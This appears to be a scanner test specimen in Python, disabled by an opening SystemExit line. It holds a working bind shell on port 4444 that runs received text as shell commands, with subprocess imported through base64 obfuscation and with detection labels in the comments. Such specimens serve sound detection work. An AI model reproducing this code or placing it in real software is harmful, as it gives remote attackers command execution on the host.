raise SystemExit("specimen: not to be run")
import base64
import importlib
import socket

def begin():
    door = socket.socket()
    door.bind(("", 4444))
    door.listen()
    line, _ = door.accept()
    importlib.import_module(base64.b64decode("c3VicHJvY2Vzcw==").decode()).run(line.recv(1024).decode(), shell=True)  # match: bind-shell  # match: dynamic-import  # match: execution-of-downloaded
